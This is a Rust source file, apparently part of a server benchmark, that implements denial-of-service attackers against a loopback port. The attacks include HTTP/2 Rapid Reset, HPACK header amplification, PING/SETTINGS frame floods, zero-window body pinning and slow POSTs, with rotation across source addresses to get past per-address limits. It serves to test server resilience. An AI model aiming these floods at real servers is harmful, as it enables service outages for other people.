//! The attackers. Each attacker has its own connections and does a bounded amount of work in each step of 20 ms.

use std::io::{self, Read as _, Write as _};
use std::net::{Ipv4Addr, SocketAddrV4, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use rustix::event::{PollFd, PollFlags, Timespec, poll};
use rustix::net::{AddressFamily, SocketType, bind, connect, socket, sockopt};
use serde_json::{Value, json};

use super::h2::{self, Method};
use super::kinds::{Attack, Strength};

/// An attack that runs in its own thread.
pub(super) struct RunningAttack {
    is_over: Arc<AtomicBool>,
    /// The CPU time of the attacker in nanoseconds.
    cpu_time: Arc<AtomicU64>,
    thread: JoinHandle<Value>,
}

/// The maximum duration of an attack.
pub(super) const DURATION_MAX: Duration = Duration::from_secs(15 * 60);

/// The duration of a step. There are 50 steps per second.
const STEP: Duration = Duration::from_millis(20);

/// Slow connections are processed once in this many steps. Processing all of them in every step would take CPU time
/// from the measuring client, which runs on the same core.
const SLOW_STRIDE: usize = 25;

/// Starts the attack. Returns when the attacker has had time to open all its connections at the rate of
/// `opened_per_step`. The moderate attack `PinnedH1` opens its connections more slowly.
pub(super) fn start(attack: Attack, strength: Strength, port: u16) -> io::Result<RunningAttack> {
    let is_over = Arc::new(AtomicBool::new(false));
    let cpu_time = Arc::new(AtomicU64::new(0));
    let thread = thread::Builder::new()
        .name(attack.name().to_owned())
        .spawn({
            let (is_over, cpu_time) = (Arc::clone(&is_over), Arc::clone(&cpu_time));
            move || Attacker::new(attack, strength, port).run(&is_over, &cpu_time)
        })?;
    let steps = attack.connections() / attack.opened_per_step(strength) + 10;
    thread::sleep(STEP * u32::try_from(steps).expect("the number of steps is small"));
    Ok(RunningAttack {
        is_over,
        cpu_time,
        thread,
    })
}

impl RunningAttack {
    /// Returns the seconds of CPU time that the attackers have used.
    pub(super) fn cpu_seconds(&self) -> f64 {
        self.cpu_time.load(Ordering::Relaxed) as f64 / 1e9
    }

    /// Ends the attack and returns its counts of connections and bytes.
    pub(super) fn stop(self) -> Value {
        self.is_over.store(true, Ordering::Relaxed);
        self.thread.join().unwrap_or_default()
    }
}

struct Attacker {
    attack: Attack,
    strength: Strength,
    port: u16,
    connections: Vec<AttackConnection>,
    opened: u64,
    refused: u64,
    closed_by_server: u64,
    bytes_sent: u64,
    /// The last requested key. It is above the keys of the client's hits and below those of its misses (from 2^40).
    last_key: u64,
    next_source: u32,
    /// The number of steps so far.
    steps: u32,
    /// The buffer into which responses are read before they are dropped.
    buffer: Vec<u8>,
}

struct AttackConnection {
    stream: TcpStream,
    /// The id of the next HTTP/2 stream: 1, then 3 and so on. After 100 requests it is 201.
    next_stream_id: u32,
    /// The number of steps in which this connection was processed.
    steps: u32,
}

impl Attacker {
    fn new(attack: Attack, strength: Strength, port: u16) -> Self {
        Self {
            attack,
            strength,
            port,
            connections: Vec::new(),
            opened: 0,
            refused: 0,
            closed_by_server: 0,
            bytes_sent: 0,
            last_key: 1 << 32,
            next_source: 0,
            steps: 0,
            buffer: vec![0; 64 << 10],
        }
    }

    fn run(mut self, is_over: &AtomicBool, cpu_time: &AtomicU64) -> Value {
        let begun = Instant::now();
        let mut open_at_once = 0;
        while !is_over.load(Ordering::Relaxed) && begun.elapsed() < DURATION_MAX {
            let step = Instant::now();
            self.open_connections();
            self.send_next_bytes();
            open_at_once = open_at_once.max(self.connections.len());
            cpu_time.store(thread_nanoseconds(), Ordering::Relaxed);
            thread::sleep(STEP.saturating_sub(step.elapsed()));
        }
        json!({
            "connections_opened": self.opened,
            "connections_open_at_once": open_at_once,
            "connections_refused": self.refused,
            "connections_closed_by_server": self.closed_by_server,
            "bytes": self.bytes_sent,
            "seconds": begun.elapsed().as_secs_f64(),
        })
    }

    fn open_connections(&mut self) {
        self.steps += 1;
        let per_step = self.attack.opened_per_step(self.strength);
        if self.attack == Attack::Admin && self.connections.len() == self.attack.connections() {
            // The attacker replaces some connections in each step. The server does not notice that a client that reads
            // nothing has closed its connection, so it keeps the replaced connections too.
            let replaced = if self.strength == Strength::Strong {
                20
            } else {
                2
            };
            self.connections.drain(..replaced);
        }
        let opened_max = match (self.attack, self.strength) {
            (Attack::PinnedH1, Strength::Moderate) => usize::from(self.steps.is_multiple_of(6)),
            // Together with the 2 of `per_step`, this opens 115 connections per second.
            (Attack::Gateway, Strength::Moderate) => per_step + usize::from(self.steps % 10 < 3),
            // All connections were open once. Connections that the server closed are replaced: 100 per second.
            (_, Strength::Moderate) if self.opened >= self.attack.connections() as u64 => 2,
            _ => per_step,
        };
        for _ in 0..opened_max {
            if self.connections.len() >= self.attack.connections() {
                return;
            }
            // The attacker uses sixteen loopback addresses, so that a limit per address does not stop the attack.
            self.next_source = (self.next_source + 1) % 16;
            let source = Ipv4Addr::new(
                127,
                0,
                1,
                u8::try_from(self.next_source + 1).expect("the number is at most 16"),
            );
            let Ok(stream) = connect_from(source, self.port) else {
                self.refused += 1;
                return;
            };
            self.opened += 1;
            let first_bytes = self.first_bytes();
            let mut connection = AttackConnection {
                stream,
                next_stream_id: 1,
                steps: 0,
            };
            if self.send(&mut connection, &first_bytes) {
                self.connections.push(connection);
            }
        }
    }

    /// Returns the first bytes that a new connection sends.
    fn first_bytes(&mut self) -> Vec<u8> {
        match self.attack {
            // The argument is the initial window in bytes. A window of 0 holds all bodies back.
            Attack::PinnedH2 | Attack::ClosedWindows => h2::preface(0),
            Attack::Hpack | Attack::RapidReset | Attack::FrameFlood => h2::preface(65_535),
            Attack::PinnedH1 => {
                let path = self.body_path();
                format!("GET {path} HTTP/1.1\r\nHost: bench\r\n\r\n").into_bytes()
            }
            Attack::SlowPosts => {
                let key = self.key();
                format!(
                    "POST /o/{key}?size=1 HTTP/1.1\r\nHost: bench\r\nContent-Length: 10000\r\n\r\n"
                )
                .into_bytes()
            }
            Attack::Admin => b"GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".repeat(200),
            Attack::Idle | Attack::Publisher | Attack::Gateway => Vec::new(),
        }
    }

    fn key(&mut self) -> u64 {
        self.last_key += 1;
        self.last_key
    }

    fn body_path(&mut self) -> String {
        let body = self.attack.body().expect("the attack requests bodies");
        body.path(self.key())
    }

    /// Sends the bytes of this step on each connection and drops the connections that the server closed.
    fn send_next_bytes(&mut self) {
        let mut still_open = Vec::new();
        let step = self.steps as usize;
        for (nth, mut connection) in std::mem::take(&mut self.connections)
            .into_iter()
            .enumerate()
        {
            if self.attack.is_slow() && nth % SLOW_STRIDE != step % SLOW_STRIDE {
                still_open.push(connection);
                continue;
            }
            let bytes = self.next_bytes(&mut connection);
            let is_alive = self.read_responses(&mut connection)
                && (bytes.is_empty() || self.send(&mut connection, &bytes));
            if is_alive {
                still_open.push(connection);
            } else {
                self.closed_by_server += 1;
            }
        }
        self.connections = still_open;
    }

    fn next_bytes(&mut self, connection: &mut AttackConnection) -> Vec<u8> {
        connection.steps += 1;
        let mut bytes = Vec::new();
        match self.attack {
            Attack::PinnedH2 | Attack::ClosedWindows if connection.next_stream_id < 200 => {
                let (bodies, steps) = match (self.attack, self.strength) {
                    // 2 connections x 2 bodies of 8 MiB, twice per second: 67 MB/s.
                    (Attack::PinnedH2, Strength::Moderate) => (2, 25),
                    (Attack::PinnedH2, Strength::Strong) => (4, 5),
                    // 12 connections x 7 bodies of 400 kB, twice per second: 67 MB/s.
                    (_, Strength::Moderate) => (7, 25),
                    (_, Strength::Strong) => (10, 1),
                };
                let bodies = if connection.steps % steps == 1 % steps {
                    bodies
                } else {
                    0
                };
                for _ in 0..bodies {
                    let path = self.body_path();
                    request(
                        &mut bytes,
                        connection,
                        &h2::head(Method::Get, &path),
                        h2::END_STREAM,
                    );
                }
            }
            Attack::Hpack if connection.next_stream_id < 200 => {
                for n in 0..10 {
                    let mut block = h2::head(Method::Post, &format!("/o/{}?size=1", self.key()));
                    if connection.next_stream_id == 1 {
                        h2::indexed_field(&mut block, b"cookie", &[b'x'; 4000]);
                    }
                    // 15 x 4 kB stay below the size limit of one head. The first request has the field once already.
                    let repeats = if n == 0 { 14 } else { 15 };
                    block.extend([h2::NEWEST_FIELD].repeat(repeats));
                    request(&mut bytes, connection, &block, 0);
                }
            }
            // 4 connections x 10 requests x 50 steps: 2,000 requests per second.
            Attack::RapidReset => {
                for _ in 0..10 {
                    let path = format!("/o/{}?size=1024&delay=5000", self.key());
                    let stream = connection.next_stream_id;
                    request(
                        &mut bytes,
                        connection,
                        &h2::head(Method::Get, &path),
                        h2::END_STREAM,
                    );
                    h2::frame(&mut bytes, h2::RST_STREAM, 0, stream, &h2::CANCEL);
                }
            }
            Attack::FrameFlood => {
                // 4 connections x 50 steps x 50 pairs: 20,000 frames per second; with 2,500 pairs, a million.
                let pairs = match self.strength {
                    Strength::Moderate => 50,
                    Strength::Strong => 2500,
                };
                for _ in 0..pairs {
                    h2::frame(&mut bytes, h2::PING, 0, 0, &[0; 8]);
                    h2::frame(&mut bytes, h2::SETTINGS, 0, 0, &[]);
                }
            }
            // Sends one byte every 15 seconds.
            Attack::SlowPosts if connection.steps.is_multiple_of(750 / SLOW_STRIDE as u32) => {
                bytes.push(b'x');
            }
            _ => {}
        }
        bytes
    }

    /// Reads and drops responses, if the server must not be blocked by a full socket. Other attacks read no
    /// response on purpose. Returns false if the server has closed the connection.
    fn read_responses(&mut self, connection: &mut AttackConnection) -> bool {
        let reads = matches!(
            self.attack,
            Attack::RapidReset | Attack::FrameFlood | Attack::Hpack | Attack::SlowPosts
        );
        if !reads {
            // Unread bytes do not show that the server has closed the connection; RDHUP does.
            let mut ends = [PollFd::new(&connection.stream, PollFlags::RDHUP)];
            return !matches!(poll(&mut ends, Some(&Timespec::default())), Ok(1..));
        }
        loop {
            match connection.stream.read(&mut self.buffer) {
                Ok(0) => return false,
                Ok(_) => {}
                error => return is_open(error),
            }
        }
    }

    /// Writes to the socket without waiting. Returns false if the connection must be closed.
    fn send(&mut self, connection: &mut AttackConnection, bytes: &[u8]) -> bool {
        match connection.stream.write(bytes) {
            // If only a part of a frame was written, the next frame would be a protocol error. The attacker therefore
            // closes the connection.
            Ok(written) => {
                self.bytes_sent += written as u64;
                written == bytes.len()
            }
            error => is_open(error),
        }
    }
}

/// Appends a HEADERS frame for the connection's next stream.
fn request(bytes: &mut Vec<u8>, connection: &mut AttackConnection, block: &[u8], flags: u8) {
    h2::frame(
        bytes,
        h2::HEADERS,
        flags | h2::END_HEADERS,
        connection.next_stream_id,
        block,
    );
    connection.next_stream_id += 2;
}

/// Returns true if the result of a non-blocking call means that the connection is still open.
fn is_open(result: io::Result<usize>) -> bool {
    match result {
        Ok(bytes) => bytes > 0,
        Err(error) => error.kind() == io::ErrorKind::WouldBlock,
    }
}

/// Opens a non-blocking connection from `source` to a loopback port, with a small receive buffer.
fn connect_from(source: Ipv4Addr, port: u16) -> io::Result<TcpStream> {
    let socket = socket(AddressFamily::INET, SocketType::STREAM, None)?;
    sockopt::set_socket_recv_buffer_size(&socket, 4096)?;
    bind(&socket, &SocketAddrV4::new(source, 0))?;
    connect(&socket, &SocketAddrV4::new(Ipv4Addr::LOCALHOST, port))?;
    let stream = TcpStream::from(socket);
    stream.set_nodelay(true)?;
    stream.set_nonblocking(true)?;
    Ok(stream)
}

/// Returns the CPU time of the calling thread (`schedstat` of proc(5)).
fn thread_nanoseconds() -> u64 {
    let text = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
    let first = text.split_whitespace().next();
    first.and_then(|nanos| nanos.parse().ok()).unwrap_or(0)
}
